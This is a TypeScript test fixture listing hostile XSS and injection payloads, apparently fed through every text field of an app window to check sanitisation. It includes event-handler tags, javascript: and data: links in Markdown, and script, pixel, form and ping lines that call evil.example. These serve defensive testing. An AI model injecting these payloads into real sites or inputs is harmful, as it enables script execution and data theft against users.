/** Ways to get from text to markup, script or a request. Each is put through every text field of the window. */
const events = [
  'onerror',
  'onload',
  'onclick',
  'onfocus',
  'onmouseover',
  'onanimationstart',
  'ontoggle',
  'onpointerenter',
];
const tags = ['img', 'svg', 'video', 'audio', 'body', 'details open', 'input autofocus', 'iframe', 'object', 'marquee'];
const schemes = ['javascript:', 'JaVaScRiPt:', 'java\tscript:', 'data:text/html,', 'vbscript:', 'file:///', 'blob:'];

const withHandlers = tags.flatMap((tag) => events.map((event) => `<${tag} src=x ${event}=alert(1)>`));
const inMarkdown = schemes.flatMap((scheme) => [
  `[click](${scheme}alert(1))`,
  `![x](${scheme}alert(1))`,
  `<${scheme}alert(1)>`,
  `[x]: ${scheme}alert(1)`,
]);

export const hostilePayloads: readonly string[] = [
  ...withHandlers,
  ...inMarkdown,
  '<script>alert(1)</script>',
  '"><script src=https://evil.example/x.js></script>',
  '<img src="https://evil.example/pixel.png">',
  '![pixel](https://evil.example/pixel.png)',
  '![pixel][p]\n\n[p]: https://evil.example/p.png',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<style>@import "https://evil.example/x.css"</style>',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<form action=https://evil.example/><button>Allow once</button></form>',
  '<iframe srcdoc="<script>parent.pwned()</script>"></iframe>',
  '<math><mi//xlink:href="data:x,<script>alert(4)</script>">',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><use href="https://evil.example/x.svg#a"/></svg>',
  '<template><script>pwned()</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>pwned()</script>]]>',
  "');alert(1);//",
  '{{constructor.constructor("pwned()")()}}',
  '${pwned()}',
  '&lt;script&gt;pwned()&lt;/script&gt;',
  '\u202e<script>pwned()</script>',
  '<a href="https://evil.example" ping="https://evil.example/ping">x</a>',
  '|<img src=x onerror=alert(1)>|b|\n|-|-|\n|<script>pwned()</script>|d|',
  '[^1]\n\n[^1]: <img src=x onerror=alert(1)>',
  '```html"><img src=x onerror=alert(1)>\n<script>pwned()</script>\n```',
  '> '.repeat(600) + '<img src=x onerror=alert(1)>',
  '*'.repeat(2_000) + '<script>pwned()</script>',
  '__proto__',
  'constructor',
];
